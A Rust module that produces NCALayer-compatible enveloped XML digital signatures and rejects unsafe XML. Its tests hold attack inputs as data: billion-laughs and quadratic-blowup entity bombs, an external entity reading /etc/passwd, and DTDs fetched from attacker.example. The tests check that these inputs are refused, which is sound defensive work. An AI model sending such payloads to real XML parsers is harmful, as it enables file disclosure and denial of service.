//! NCALayer-compatible enveloped XMLDSig: one `ds:Signature` over the whole document, RSA-SHA256.
//!
//! The signature is spliced into the caller's text just before the root's end tag, so every
//! byte outside `ds:Signature` stays as given. Canonicalization is bergshamra's C14N 1.0 over the
//! `uppsala` parse tree; digests come from `sha2`, base64 from `base64`.
//!
//! Every document, the page's and the verifier's, goes through [`parse`]: no DOCTYPE, no entity
//! declarations, at most [`MAX_DEPTH`] nested elements (docs/PROTOCOL.md, "Limits on XML").

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;
use bergshamra_c14n::C14nMode;
use bergshamra_xml::NodeSet;
use sha2::{Digest as _, Sha256};
use uppsala::{Document, NodeId};

use super::{KeyError, RawSigner, SignatureAlgorithm};

// The URIs NCALayer's signatures use; public so verifiers read the same names.
pub const DSIG_NS: &str = "http://www.w3.org/2000/09/xmldsig#";
pub const C14N: &str = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
pub const C14N_WITH_COMMENTS: &str = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments";
pub const ENVELOPED: &str = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
pub const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
pub const SHA256: &str = "http://www.w3.org/2001/04/xmlenc#sha256";
/// GOST 34.10-2015 512-bit signature with Streebog-512, as Kazakhstan's PKI names it.
pub const GOST2015_512: &str =
    "urn:ietf:params:xml:ns:pkigovkz:xmlsec:algorithms:gostr34102015-gostr34112015-512";
/// Streebog-512 digest, as Kazakhstan's PKI names it.
pub const STREEBOG_512: &str =
    "urn:ietf:params:xml:ns:pkigovkz:xmlsec:algorithms:gostr34112015-512";
/// Deepest element nesting accepted: uppsala's own default, sized for a 2 MiB thread stack;
/// NCALayer-style documents nest a dozen levels.
pub const MAX_DEPTH: u32 = 128;
/// Bytes that declared entities may expand to: none, as declarations are refused; a second lock.
pub const MAX_ENTITY_EXPANSION: usize = 0;
/// Line length of wrapped base64, as Java's MIME encoder (and so NCALayer) writes it.
const BASE64_LINE: usize = 76;

/// How the `ds:Signature` element is laid out; everything outside it is untouched either way.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum XmlLayout {
    /// No whitespace inside the signature (`basics.sign`): egov.kz drops whitespace in SignedInfo.
    Compact,
    /// CRLF after every tag and base64 wrapped at 76 columns (`commonUtils.signXml`, Santuario-like).
    Wrapped,
}

/// Why an XML document could not be signed; never carries key material.
#[derive(Debug, thiserror::Error)]
pub enum XmlError {
    /// The input is not well-formed XML, is empty, or has no root element.
    #[error("invalid XML: {0}")]
    InvalidXml(String),
    /// Well-formed, perhaps, but outside the limits on XML: refused before any work on it.
    #[error("{0}")]
    Refused(#[from] Refusal),
    /// The key refused or failed to sign.
    #[error(transparent)]
    Key(#[from] KeyError),
    /// The canonicalizer rejected the (already parsed) document.
    #[error("XML canonicalization failed: {0}")]
    Canonicalization(String),
    /// A bug in this module, not in the input; reported instead of panicking.
    #[error("internal XML signing error: {0}")]
    Internal(&'static str),
}

/// What about a document was refused; each one sentence that reaches the page as is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    /// Entities are how billion-laughs, quadratic blowup and external (file, network) reads work.
    #[error("XML entity declarations are not accepted")]
    EntityDeclarations,
    /// A DTD can name an external subset and changes what a document means; signatures need none.
    #[error("XML with a DOCTYPE (DTD) is not accepted")]
    Doctype,
    /// Deep nesting costs stack in every tree walk after the parse.
    #[error("XML nested deeper than {MAX_DEPTH} elements is not accepted")]
    TooDeep,
    /// Only reachable if an entity slipped past the refusal of declarations.
    #[error("XML entity expansion is not accepted")]
    EntityExpansion,
}

/// Signs `xml` with an enveloped signature appended as the last child of its root element.
///
/// ```
/// use qoltanba_core::{keystore, sign::{xml, EntrySigner}};
///
/// let store = keystore::open("../../certs-test/keystores/individual_sign.p12".as_ref(), "Qwerty12")?;
/// let signer = EntrySigner::new(&store.entries[0], Default::default())?;
/// let signed = xml::sign_enveloped("<login><id>42</id></login>", &signer, xml::XmlLayout::Compact)?;
/// assert!(signed.contains("<ds:SignatureValue>"));
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
pub fn sign_enveloped(
    xml: &str,
    signer: &dyn RawSigner,
    layout: XmlLayout,
) -> Result<String, XmlError> {
    let doc = parse(xml)?;
    let algorithm = signer.algorithm();
    let digest = algorithm.digest(&canonical_document(&doc)?);
    let splice = Splice::at_root_end(&doc)?;
    let (signature_method, digest_method) = match algorithm {
        SignatureAlgorithm::RsaSha256 => (RSA_SHA256, SHA256),
        SignatureAlgorithm::Gost2015 => (GOST2015_512, STREEBOG_512),
    };
    let parts = SignatureParts {
        layout,
        signature_method,
        digest_method,
        digest_b64: BASE64.encode(digest),
        certificate_b64: BASE64.encode(signer.certificate_der()),
    };

    // Sign what a verifier will see: the final text (SignatureValue still empty), re-parsed.
    let unsigned = splice.apply(xml, &parts.render(None));
    let signed_info = canonical_signed_info(&unsigned, splice.signature_offset())?;
    let signature_value = signer.sign(&signed_info)?;
    Ok(splice.apply(xml, &parts.render(Some(&signature_value))))
}

/// SHA-256 of the document as the Reference sees it (URI="", enveloped, C14N 1.0): the DigestValue.
///
/// `URI=""` selects the document without comments (XMLDSig 4.3.3.2; Santuario and xmlsec agree),
/// so the `#WithComments` transform that follows has no comments left to keep.
pub fn reference_digest(xml: &str) -> Result<[u8; 32], XmlError> {
    digest_of(&parse(xml)?)
}

/// Parses a document from outside within the limits on XML; the only way XML is parsed here.
///
/// uppsala never reads files or the network: it skips a DOCTYPE's external subset, does not
/// resolve parameter entities and does not load external entities. What it would expand
/// (internal entities) is refused at the first declaration, before any expansion.
pub fn parse(xml: &str) -> Result<Document<'_>, XmlError> {
    let parser = uppsala::Parser::new()
        .with_forbid_entities(true)
        .with_max_depth(MAX_DEPTH)
        .with_max_entity_expansion(MAX_ENTITY_EXPANSION);
    let doc = parser.parse(xml).map_err(|e| match refusal(&e) {
        Some(refusal) => XmlError::Refused(refusal),
        None => XmlError::InvalidXml(e.to_string()),
    })?;
    if doc.doctype.is_some() {
        return Err(Refusal::Doctype.into());
    }
    if doc.document_element().is_none() {
        return Err(XmlError::InvalidXml(
            "the document has no root element".into(),
        ));
    }
    Ok(doc)
}

/// Which limit a parse error reports. uppsala tells its limits apart only by message; the
/// tests of each refusal fail if a new uppsala words them differently.
fn refusal(error: &uppsala::XmlError) -> Option<Refusal> {
    let uppsala::XmlError::Parse(error) = error else {
        return None;
    };
    let message = error.message.as_str();
    if message.starts_with("Entity declarations are not allowed") {
        Some(Refusal::EntityDeclarations)
    } else if message.starts_with("Element nesting exceeds maximum depth") {
        Some(Refusal::TooDeep)
    } else if message.starts_with("Entity expansion exceeds") {
        Some(Refusal::EntityExpansion)
    } else {
        None
    }
}

fn digest_of(doc: &Document<'_>) -> Result<[u8; 32], XmlError> {
    Ok(Sha256::digest(canonical_document(doc)?).into())
}

/// The bytes the Reference digests. Before signing there is no Signature to remove, and
/// nothing else changes, so the enveloped transform is the identity here.
fn canonical_document(doc: &Document<'_>) -> Result<Vec<u8>, XmlError> {
    canonicalize(doc, &NodeSet::all_without_comments(doc))
}

fn canonicalize(doc: &Document<'_>, nodes: &NodeSet) -> Result<Vec<u8>, XmlError> {
    bergshamra_c14n::canonicalize_doc(doc, C14nMode::Inclusive, Some(nodes), &[] as &[&str])
        .map_err(|e| XmlError::Canonicalization(e.to_string()))
}

/// Canonical SignedInfo of the signature that starts at byte `offset` of `text`, in document context.
fn canonical_signed_info(text: &str, offset: usize) -> Result<Vec<u8>, XmlError> {
    let doc =
        parse(text).map_err(|_| XmlError::Internal("the document no longer parses once signed"))?;
    let signature = find_signature_at(&doc, offset)?;
    let signed_info = doc
        .children(signature)
        .into_iter()
        .find(|&id| is_dsig_element(&doc, id, "SignedInfo"))
        .ok_or(XmlError::Internal(
            "the inserted Signature has no SignedInfo",
        ))?;
    canonicalize(&doc, &NodeSet::tree_without_comments(signed_info, &doc))
}

/// The inserted `ds:Signature`: the root's child element whose source starts at `offset`.
fn find_signature_at(doc: &Document<'_>, offset: usize) -> Result<NodeId, XmlError> {
    let root = doc
        .document_element()
        .ok_or(XmlError::Internal("the signed document lost its root"))?;
    doc.children(root)
        .into_iter()
        .rev()
        .find(|&id| {
            is_dsig_element(doc, id, "Signature")
                && doc.node_range(id).is_some_and(|r| r.start == offset)
        })
        .ok_or(XmlError::Internal(
            "the inserted Signature was not found where it was put",
        ))
}

fn is_dsig_element(doc: &Document<'_>, id: NodeId, local_name: &str) -> bool {
    doc.element(id)
        .is_some_and(|e| e.matches_name_ns(DSIG_NS, local_name))
}

/// Where and how the signature goes into the original text.
struct Splice {
    /// Byte offset in the original text where the signature starts.
    at: usize,
    /// For a self-closing root `<a/>`: the tail `/>` is replaced by `>` + signature + `</a>`.
    self_closing: Option<String>,
}

impl Splice {
    /// Finds the root's end tag (or its `/>`) from the parser's source ranges.
    fn at_root_end(doc: &Document<'_>) -> Result<Self, XmlError> {
        let root = doc
            .document_element()
            .ok_or_else(|| XmlError::InvalidXml("the document has no root element".into()))?;
        let source = doc.node_source(root).ok_or(XmlError::Internal(
            "the parser gave no source range for the root",
        ))?;
        let range = doc.node_range(root).ok_or(XmlError::Internal(
            "the parser gave no source range for the root",
        ))?;
        let name = doc
            .element(root)
            .ok_or(XmlError::Internal("the root is not an element"))?
            .name
            .prefixed_name()
            .into_owned();

        let last_child_end = doc
            .last_child(root)
            .and_then(|child| doc.node_range(child))
            .map(|r| r.end);
        let splice = match last_child_end {
            // The end tag follows the last child immediately (whitespace is a text child).
            Some(end) => Self {
                at: end,
                self_closing: None,
            },
            // An end tag never ends in "/>", so a childless root ending so is `<a .../>`.
            None if source.ends_with("/>") => Self {
                at: range.end - 2,
                self_closing: Some(name),
            },
            // `<a ...></a>`: "<" cannot occur inside a start tag, so the last "</" opens the end tag.
            None => Self {
                at: range.start
                    + source
                        .rfind("</")
                        .ok_or(XmlError::Internal("the root has neither end tag nor '/>'"))?,
                self_closing: None,
            },
        };
        let rest = &doc.input_text()[splice.at..];
        let expected = if splice.self_closing.is_some() {
            "/>"
        } else {
            "</"
        };
        if !rest.starts_with(expected) {
            return Err(XmlError::Internal(
                "the root's end tag is not where the parser put it",
            ));
        }
        Ok(splice)
    }

    /// Offset of the signature's `<` in the spliced text.
    fn signature_offset(&self) -> usize {
        self.at + usize::from(self.self_closing.is_some())
    }

    fn apply(&self, original: &str, signature: &str) -> String {
        let (head, tail) = original.split_at(self.at);
        let mut out = String::with_capacity(original.len() + signature.len() + 16);
        out.push_str(head);
        match &self.self_closing {
            Some(name) => {
                out.push('>');
                out.push_str(signature);
                out.push_str("</");
                out.push_str(name);
                out.push('>');
                out.push_str(&tail[2..]);
            }
            None => {
                out.push_str(signature);
                out.push_str(tail);
            }
        }
        out
    }
}

/// Everything that goes into the `ds:Signature` element except the signature value.
struct SignatureParts {
    layout: XmlLayout,
    signature_method: &'static str,
    digest_method: &'static str,
    digest_b64: String,
    certificate_b64: String,
}

impl SignatureParts {
    /// The `ds:Signature` element; `signature_value: None` leaves SignatureValue empty.
    fn render(&self, signature_value: Option<&[u8]>) -> String {
        let nl = match self.layout {
            XmlLayout::Compact => "",
            XmlLayout::Wrapped => "\r\n",
        };
        let value = signature_value
            .map(|v| self.base64_block(v))
            .unwrap_or_default();
        let certificate = self.wrap(&self.certificate_b64);
        let (method, digest) = (self.signature_method, &self.digest_b64);
        let digest_method = self.digest_method;
        format!(
            "<ds:Signature xmlns:ds=\"{DSIG_NS}\">{nl}\
             <ds:SignedInfo>{nl}\
             <ds:CanonicalizationMethod Algorithm=\"{C14N}\"/>{nl}\
             <ds:SignatureMethod Algorithm=\"{method}\"/>{nl}\
             <ds:Reference URI=\"\">{nl}\
             <ds:Transforms>{nl}\
             <ds:Transform Algorithm=\"{ENVELOPED}\"/>{nl}\
             <ds:Transform Algorithm=\"{C14N_WITH_COMMENTS}\"/>{nl}\
             </ds:Transforms>{nl}\
             <ds:DigestMethod Algorithm=\"{digest_method}\"/>{nl}\
             <ds:DigestValue>{digest}</ds:DigestValue>{nl}\
             </ds:Reference>{nl}\
             </ds:SignedInfo>{nl}\
             <ds:SignatureValue>{value}</ds:SignatureValue>{nl}\
             <ds:KeyInfo>{nl}\
             <ds:X509Data>{nl}\
             <ds:X509Certificate>{certificate}</ds:X509Certificate>{nl}\
             </ds:X509Data>{nl}\
             </ds:KeyInfo>{nl}\
             </ds:Signature>"
        )
    }

    fn base64_block(&self, bytes: &[u8]) -> String {
        self.wrap(&BASE64.encode(bytes))
    }

    /// Compact: the bare base64. Wrapped: CRLF, 76-column lines joined by CRLF, CRLF.
    fn wrap(&self, b64: &str) -> String {
        match self.layout {
            XmlLayout::Compact => b64.to_owned(),
            XmlLayout::Wrapped => {
                let lines: Vec<&str> = b64
                    .as_bytes()
                    .chunks(BASE64_LINE)
                    // Base64 is ASCII, so every chunk boundary is a char boundary.
                    .filter_map(|line| std::str::from_utf8(line).ok())
                    .collect();
                format!("\r\n{}\r\n", lines.join("\r\n"))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    struct FakeSigner;

    impl RawSigner for FakeSigner {
        fn algorithm(&self) -> SignatureAlgorithm {
            SignatureAlgorithm::RsaSha256
        }
        fn certificate_der(&self) -> &[u8] {
            &[0x30, 0x03, 0x02, 0x01, 0x01]
        }
        fn sign(&self, message: &[u8]) -> Result<Vec<u8>, KeyError> {
            Ok(Sha256::digest(message).to_vec())
        }
    }

    const DOCS: &[&str] = &[
        "<tag>data</tag>",
        "\u{FEFF}<bom>б</bom>",
        "<a/>",
        "<a x=\"1\" />",
        "<a></a >",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- top -->\n<r xmlns=\"urn:d\" xmlns:p=\"urn:p\" p:k=\"v\">\r\n  <p:c>Сәлем <![CDATA[<raw>]]></p:c><!-- in -->\n</r>\n<!-- after -->\n",
    ];

    fn signature_subtree_excluded_digest(signed: &str) -> [u8; 32] {
        let doc = parse(signed).expect("signed output parses");
        let root = doc.document_element().expect("root");
        let sig = doc
            .children(root)
            .into_iter()
            .rev()
            .find(|&id| is_dsig_element(&doc, id, "Signature"))
            .expect("signature present");
        let nodes =
            NodeSet::all_without_comments(&doc).subtract(&NodeSet::tree_with_comments(sig, &doc));
        Sha256::digest(canonicalize(&doc, &nodes).expect("c14n")).into()
    }

    #[test]
    fn digest_over_original_equals_digest_of_signed_doc_without_signature() {
        for layout in [XmlLayout::Compact, XmlLayout::Wrapped] {
            for xml in DOCS {
                let signed = sign_enveloped(xml, &FakeSigner, layout).expect("signs");
                assert_eq!(
                    reference_digest(xml).expect("digest"),
                    signature_subtree_excluded_digest(&signed),
                    "{xml:?} {layout:?}"
                );
            }
        }
    }

    #[test]
    fn text_outside_the_signature_is_kept_byte_for_byte() {
        for xml in DOCS {
            let signed = sign_enveloped(xml, &FakeSigner, XmlLayout::Compact).expect("signs");
            let start = signed.find("<ds:Signature ").expect("signature");
            let end = signed.rfind("</ds:Signature>").expect("end") + "</ds:Signature>".len();
            let outside = format!("{}{}", &signed[..start], &signed[end..]);
            let expected = match *xml {
                "<a/>" => "<a></a>",
                "<a x=\"1\" />" => "<a x=\"1\" ></a>",
                other => other,
            };
            assert_eq!(outside, expected);
        }
    }

    #[test]
    fn signature_is_the_last_child_of_the_root() {
        let signed = sign_enveloped("<a><b/>  </a>", &FakeSigner, XmlLayout::Compact).unwrap();
        assert!(signed.starts_with("<a><b/>  <ds:Signature "));
        assert!(signed.ends_with("</ds:Signature></a>"));
    }

    #[test]
    fn signed_info_is_canonicalized_with_the_roots_default_namespace() {
        let signed =
            sign_enveloped("<r xmlns=\"urn:d\"/>", &FakeSigner, XmlLayout::Wrapped).expect("signs");
        let offset = signed.find("<ds:Signature").expect("signature");
        let c14n = canonical_signed_info(&signed, offset).expect("c14n");
        let c14n = String::from_utf8(c14n).expect("utf-8");
        assert!(c14n.starts_with(
            "<ds:SignedInfo xmlns=\"urn:d\" xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">\n<ds:Canon"
        ));
        assert!(!c14n.contains('\r'));
    }

    /// Ten entities, each ten of the one before: 10^9 "lol"s if expanded.
    fn billion_laughs() -> String {
        let mut dtd = String::from("<!ENTITY lol0 \"lol\">");
        for i in 1..10 {
            let refs = format!("&lol{};", i - 1).repeat(10);
            dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">"));
        }
        format!("<?xml version=\"1.0\"?><!DOCTYPE lolz [{dtd}]><lolz>&lol9;</lolz>")
    }

    /// One 100 kB entity referenced 100 000 times: 10 GB if expanded, no nesting needed.
    fn quadratic_blowup() -> String {
        let value = "A".repeat(100_000);
        let refs = "&a;".repeat(100_000);
        format!("<!DOCTYPE r [<!ENTITY a \"{value}\">]><r>{refs}</r>")
    }

    fn nested(depth: usize) -> String {
        format!("{}{}", "<e>".repeat(depth), "</e>".repeat(depth))
    }

    /// The page's two ways in: the check before the prompt, and the signing itself.
    fn assert_refused(xml: &str, expected: Refusal) {
        let checked = reference_digest(xml).unwrap_err();
        assert!(
            matches!(checked, XmlError::Refused(r) if r == expected),
            "{checked:?}"
        );
        let signed = sign_enveloped(xml, &FakeSigner, XmlLayout::Compact).unwrap_err();
        assert!(
            matches!(signed, XmlError::Refused(r) if r == expected),
            "{signed:?}"
        );
    }

    #[test]
    fn billion_laughs_is_refused_at_the_first_entity_declaration() {
        assert_refused(&billion_laughs(), Refusal::EntityDeclarations);
    }

    #[test]
    fn quadratic_blowup_is_refused_before_any_expansion() {
        assert_refused(&quadratic_blowup(), Refusal::EntityDeclarations);
    }

    #[test]
    fn external_entity_cannot_read_a_local_file() {
        let xml = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        assert_refused(xml, Refusal::EntityDeclarations);
    }

    #[test]
    fn parameter_entity_cannot_pull_in_an_external_dtd() {
        let xml =
            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://attacker.example/evil.dtd\"> %p;]><a/>";
        assert_refused(xml, Refusal::EntityDeclarations);
    }

    #[test]
    fn external_dtd_is_refused_not_fetched() {
        assert_refused(
            "<!DOCTYPE a SYSTEM \"http://attacker.example/evil.dtd\"><a/>",
            Refusal::Doctype,
        );
        assert_refused(
            "<!DOCTYPE a PUBLIC \"-//A//B\" \"file:///etc/passwd\"><a/>",
            Refusal::Doctype,
        );
    }

    #[test]
    fn any_doctype_is_refused_even_without_entities() {
        assert_refused("<!DOCTYPE a><a/>", Refusal::Doctype);
        assert_refused(
            "<!DOCTYPE a [<!ATTLIST a id ID #IMPLIED> %undeclared;]><a/>",
            Refusal::Doctype,
        );
    }

    #[test]
    fn nesting_deeper_than_max_depth_is_refused() {
        assert_refused(&nested(MAX_DEPTH as usize + 1), Refusal::TooDeep);
    }

    #[test]
    fn nesting_of_exactly_max_depth_still_signs() {
        let xml = nested(MAX_DEPTH as usize);
        let signed = sign_enveloped(&xml, &FakeSigner, XmlLayout::Wrapped).expect("signs");
        assert_eq!(
            reference_digest(&xml).expect("digest"),
            signature_subtree_excluded_digest(&signed)
        );
    }

    #[test]
    fn refusals_name_the_limit_for_the_page() {
        let shown = XmlError::from(Refusal::EntityDeclarations).to_string();
        assert_eq!(shown, "XML entity declarations are not accepted");
        let shown = XmlError::from(Refusal::TooDeep).to_string();
        assert_eq!(shown, "XML nested deeper than 128 elements is not accepted");
    }

    #[test]
    fn empty_and_rootless_input_is_invalid_xml() {
        for xml in [
            "",
            "   ",
            "<?xml version=\"1.0\"?>",
            "<a>",
            "<a></b>",
            "text",
        ] {
            let err = sign_enveloped(xml, &FakeSigner, XmlLayout::Compact).unwrap_err();
            assert!(matches!(err, XmlError::InvalidXml(_)), "{xml:?}: {err:?}");
        }
    }
}
